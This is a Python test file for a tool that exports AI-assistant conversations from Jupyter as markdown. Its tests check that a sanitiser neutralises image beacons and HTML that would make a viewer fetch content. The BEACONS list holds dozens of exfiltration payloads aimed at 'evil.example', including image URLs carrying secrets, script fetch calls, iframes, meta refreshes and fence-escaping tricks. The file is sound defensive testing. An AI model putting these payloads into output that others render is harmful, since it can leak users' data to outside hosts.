"""The conversation as markdown: readable, and harmless to show."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import mistune
import pytest
from hypothesis import given
from hypothesis import strategies as st

from jupyter_claude_workspace.protocol import frames as f
from jupyter_claude_workspace.protocol.content import (
    Attachment,
    ChoiceAsk,
    ChoiceItem,
    ChoiceOption,
    ImageBlock,
    Origin,
    PermissionAsk,
    PlanAsk,
    PlanItem,
    Problem,
    Settings,
    TextBlock,
)
from jupyter_claude_workspace.session.info import SessionInfo
from jupyter_claude_workspace.web.beacons import fenced, inline, without_beacons
from jupyter_claude_workspace.web.markdown import as_markdown

INFO = SessionInfo(
    session_id="1f0c7a44-0000-4000-8000-000000000000",
    context="workspace",
    notebook="deep/analysis.ipynb",
    title="Penguins",
    state="asleep",
    settings=Settings(),
    created="2026-11-02T10:00:00.000+00:00",
    modified="2026-11-02T10:05:00.000+00:00",
)
PICTURE = ImageBlock(kind="image", media_type="image/png", data="AA==")
SAFE_TAGS = {
    "p", "a", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "br", "del", "table", "thead", "tbody", "tr", "th", "td", "input", "sup", "section",
}  # fmt: skip
ACTIVE = {"img", "style", "script", "link", "iframe", "textarea", "title", "xmp", "plaintext", "noframes", "noembed"}
FETCHING = {"src", "srcset", "style", "background", "poster", "data", "xlink:href", "formaction", "ping"}


class Seen(HTMLParser):
    """What a browser makes of HTML: the tags that fetch, hide what follows, or have attributes not of markdown's."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name for name, _ in attrs if (tag, name) not in {("td", "style"), ("th", "style")}}
        if tag in ACTIVE or names & FETCHING or (names and tag not in SAFE_TAGS):
            self.bad.append(self.get_starttag_text() or tag)

    def handle_data(self, data: str) -> None:
        self.text += data


def rendered(markdown: str) -> str:
    """HTML as a viewer that trusts its author would make it: raw HTML goes through."""
    plugins = ["table", "strikethrough", "task_lists", "footnotes"]
    made = mistune.create_markdown(escape=False, plugins=plugins)(markdown)
    assert isinstance(made, str)
    return made


BEACONS = [
    "![x](http://evil.example/?q=secret)",
    "![x](https://evil.example/x.png 'title')",
    "![x](//evil.example/x.png)",
    "![x](<http://evil.example/x y.png>)",
    "![x](h&#116;tp://evil.example)",
    "![x](http:\\/\\/evil.example)",
    "![x](data:image/png;base64,AAAA)",
    "![](http://evil.example)",
    "![a [b [c] d] e](http://evil.example)",
    "![a\\]b](http://evil.example)",
    "![`]`](http://evil.example)",
    "![a\nb](http://evil.example)",
    "!![x](http://evil.example)",
    "!!![x](http://evil.example)",
    "\\\\![x](http://evil.example)",
    "[![x](http://evil.example)](http://evil.example)",
    "![x][r]\n\n[r]: http://evil.example",
    "![r][]\n\n[r]: http://evil.example",
    "![r]\n\n[r]: http://evil.example",
    "![r]\n\n[R]:\n  <http://evil.example>\n  'title'",
    "> ![x](http://evil.example)",
    "- ![x](http://evil.example)",
    "| a |\n|---|\n| ![x](http://evil.example) |",
    "# ![x](http://evil.example)",
    "<img src=http://evil.example>",
    "text <img src=http://evil.example> text",
    "<IMG\nSRC=http://evil.example>",
    "<img/src=http://evil.example>",
    "<svg><image href=http://evil.example /></svg>",
    "<div style='background:url(http://evil.example)'>x</div>",
    "<style>@import url(http://evil.example);</style>",
    "text <style>p{background:url(http://evil.example)}</style>",
    "<script>fetch('http://evil.example')</script>",
    "<iframe src=http://evil.example></iframe>",
    "<link rel=stylesheet href=http://evil.example>",
    "<video poster=http://evil.example>",
    "<body background=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<object data=http://evil.example>",
    "<a href=x ping=http://evil.example>x</a>",
    "<!-- <img src=http://evil.example> --> <img src=http://evil.example>",
    "<!--\n```\n-->\n![x](http://evil.example)\n<!--\n```\n-->",
    "<div>\n```\n![x](http://evil.example)\n\n![y](http://evil.example)\n```\n",
    "- <div>\n  ```\n\n![x](http://evil.example)",
    "<?php\n```\n?>\n![x](http://evil.example)",
    "<![CDATA[\n```\n]]>\n![x](http://evil.example)",
    "<textarea>\n```\n</textarea>\n\n![x](http://evil.example)",
    "- a\n  ```\n![x](http://evil.example)\n  ```",
    "1. a\n   ```\n![x](http://evil.example)\n   ```\n\n![y](http://evil.example)",
    "- ```\n  code\n![x](http://evil.example)\n```\n\n![y](http://evil.example)",
    "> ```\n![x](http://evil.example)\n```\n![y](http://evil.example)",
    "para\n     ```\n![x](http://evil.example)\n     ```",
    "para\n    ```\n    ![x](http://evil.example)",
    "```\ncode\n``\n![x](http://evil.example)\n```\n![y](http://evil.example)",
    "``` a`b\n![x](http://evil.example)\n```",
    "~~~\n```\n~~~\n![x](http://evil.example)\n```",
    "````\n```\n![in code](http://evil.example)\n````\n![x](http://evil.example)",
    "```\r![x](http://evil.example)\r```\r![y](http://evil.example)",
    "a ` b\n- ` <img src=http://evil.example> `",
    "| ` | <img src=http://evil.example> ` |\n|---|---|",
    "  ```\npara\n     ```\n![x](http://evil.example)\n  ```\n",
    "``` a |\n|---|\n| ![x](http://evil.example) |",
    "`` ` `` ![x](http://evil.example) `",
]  # fmt: skip


@pytest.mark.parametrize("beacon", BEACONS)
@pytest.mark.parametrize("before", ["", "text\n", "- item\n\n", "```python\ncode\n```\n", "> quoted\n"])
def test_nothing_is_fetched(before: str, beacon: str) -> None:
    """However a picture or a tag is dressed up, a viewer that even trusts HTML fetches nothing."""
    html = rendered(without_beacons(before + beacon))

    assert Seen(html).bad == [], html


JOINTS = ["```", "~~~", "  ```", "    ```", "- ", "> ", "1. ", "\n\n", "text", "`", "<b>", "\t"]


@given(st.lists(st.sampled_from([*BEACONS, *JOINTS])))
def test_nothing_is_fetched_in_any_mixture(parts: list[str]) -> None:
    """The same for any of them on top of each other."""
    for joint in ("\n", ""):
        html = rendered(without_beacons(joint.join(parts)))
        assert Seen(html).bad == [], html


@pytest.mark.parametrize(
    "honest",
    [
        "Plain **text** with `code`, a [link](https://example.org) and <https://example.org>.",
        "```python\nif not a[0]:\n    print('<img src=x>', \"![x](http://y)\")\n```",
        "Use `Vec<T>` and `if (!a) {}`, or a < b and c > d.",
        "- one\n- two\n  - three\n\n1. first\n2. second",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "> quoted\n\n# Heading\n\n---\n\nEnd.",
        "$x < y$ and $$\\sum_i x_i$$",
        "العربية, 日本語, 🦀",
    ],
)
def test_honest_markdown_stays_as_it_is(honest: str) -> None:
    """Text, links, code and tables are not touched."""
    assert without_beacons(honest) == honest


def test_code_means_the_same() -> None:
    """What looks like a picture in code in a list, where it cannot be told from one, still means what it meant."""
    assert without_beacons("- use `if (![1, 2].includes(x))` here") == "- use `if (! [1, 2].includes(x))` here"


def test_pictures_become_links() -> None:
    """A picture is a link with its description."""
    assert (
        without_beacons("See ![the plot](https://example.org/p.png).") == "See [the plot](https://example.org/p.png)."
    )
    assert without_beacons("![](https://example.org/p.png)") == "[image](https://example.org/p.png)"


def test_fences_are_closed_and_stand_alone() -> None:
    """A block of code that was not closed is; one in a list is moved out of it; what is in them is untouched."""
    assert without_beacons("```sh\nls") == "```sh\nls\n```"
    assert without_beacons("1. run\n   ```sh\n   ls\n     -l\n   ```") == "1. run\n```sh\nls\n  -l\n```"


def test_characters_that_hide_are_shown() -> None:
    """Control characters and those that reorder text are spelled out, in prose, in code and in a line."""
    assert without_beacons("a\x1b[31mb") == "a\\u001b[31mb"
    assert fenced("rm \u202efdp.exe") == "```\nrm \\u202efdp.exe\n```"
    assert inline("a\u2066b") == "a\\\\u2066b"


def test_a_fence_is_longer_than_what_it_holds() -> None:
    """Foreign text cannot end the fence it stands in."""
    assert fenced("```\n`````\nx", "md") == "``````md\n```\n`````\nx\n``````"


@given(st.text())
def test_text_in_a_line_stays_text(text: str) -> None:
    """A name or title shows as it is written: nothing in it is markup."""
    html = rendered(f"# {inline(text)}")

    assert Seen(html).bad == []
    assert html.count("<") == 2 if inline(text) else True


def turn(*frames: Any) -> str:
    """The markdown of these frames, without the head."""
    return as_markdown(INFO, frames).split("\n\n", 2)[2]


def test_the_head_says_what_this_is() -> None:
    """Title, notebook, session and begin come first; without a title, the notebook is the title."""
    text = as_markdown(INFO, [])

    assert text.startswith("# Penguins\n\nNotebook deep/analysis.ipynb, session 1f0c7a44-")


def test_a_turn_reads_from_top_to_bottom() -> None:
    """Who asked what, what was thought, done, asked, decided and said, in that order; no machinery."""
    text = turn(
        f.StateChanged(state="running"),
        f.TurnStarted(
            origin=Origin(kind="prompt", prompt="p", user="Ann_Lee"),
            text="Clean up,\nplease",
            attachments=[Attachment(name="a[1].png", content=PICTURE)],
        ),
        f.Message(message="m", block=0, kind="thinking", text="Hm."),
        f.ToolStarted(tool="t", name="Bash", input={"command": "rm *.tmp"}),
        f.Question(
            question="q", nonce="n", ask=PermissionAsk(kind="permission", name="Bash", input={}, title="Run rm *.tmp")
        ),
        f.QuestionSettled(question="q", decision="deny", user="Ann_Lee", message="Not these."),
        f.ToolFinished(tool="t", outcome="denied", content=[TextBlock(kind="text", text="denied")], omitted=7),
        f.Plan(
            items=[PlanItem(id="1", text="tidy", status="completed"), PlanItem(id="2", text="on", status="pending")]
        ),
        f.Message(message="m", block=1, kind="text", text="As you wish."),
        f.TurnEnded(why="completed"),
    )

    assert text == (
        "## Ann\\_Lee\n\n> Clean up,\n> please\n\n*Attached: a\\[1\\].png*\n\n> *Thinking*\n>\n> Hm.\n\n"
        "**Bash**\n\n```bash\nrm *.tmp\n```\n\n*Asked: Run rm \\*.tmp*\n\n*Denied by Ann\\_Lee.*\n\n> Not these.\n\n"
        "Result (denied):\n\n```\ndenied\n(7 characters left out)\n```\n\n- [x] tidy\n- [ ] on\n\nAs you wish.\n"
    )


def test_other_questions_and_ends() -> None:
    """Choices, plans, subagents, pictures, notices, saved agents and turns that did not end well are told."""
    item = ChoiceItem(question="Which?", options=[ChoiceOption(label="a"), ChoiceOption(label="b")])
    text = turn(
        f.TurnStarted(origin=Origin(kind="task")),
        f.Question(question="q", nonce="n", ask=ChoiceAsk(kind="choice", items=[item])),
        f.QuestionSettled(question="q", decision="allow", answers={"Which?": "a"}),
        f.Question(question="r", nonce="n", ask=PlanAsk(kind="plan", plan="1. Go\n2. Stop")),
        f.ToolStarted(tool="t", name="Read", input={"file_path": "x"}),
        f.ToolFinished(tool="t", outcome="done", content=[PICTURE]),
        f.Message(message="s", block=0, kind="text", text="from below", parent="t"),
        f.Notice(code="silent", level="warning", text="No sign for 30 s."),
        f.Notice(code="silent", over=True),
        f.AgentSaved(name="reviewer", path="reviewer.agent.json", etag='"0"'),
        f.Message(message="m", block=0, kind="text", text="Half a sent", partial=True),
        f.TurnEnded(why="failed", problem=Problem(code="x", text="It broke.")),
        f.TurnStarted(origin=Origin(kind="prompt"), text="again"),
    )

    for part in (
        "## Claude Code went on by itself\n", "*Asked: Which?*", "> Which?: a",
        "*Asked to approve this plan:*\n\n> 1. Go", '```json\n{\n  "file_path": "x"\n}\n```', "(a picture, image/png)",
        "> *Subagent*\n>\n> from below",
        "*No sign for 30 s.*", "*Saved the agent reviewer as reviewer.agent.json.*",
        "Half a sent\n\n*(cut short)*",
        "*This turn failed.*\n\n*It broke.*", "*This turn is still going on.*\n",
    ):  # fmt: skip
        assert part in text


def test_pieces_of_one_turn_cannot_swallow_the_next() -> None:
    """A message that opens a block of code and never closes it leaves what follows alone."""
    text = turn(
        f.TurnStarted(origin=Origin(kind="prompt", user="Ann"), text="```"),
        f.Message(message="m", block=0, kind="text", text="~~~~\nopen"),
        f.TurnEnded(why="completed"),
        f.TurnStarted(origin=Origin(kind="prompt", user="Bob"), text="hello"),
    )

    assert "<h2>Bob</h2>" in rendered(text)
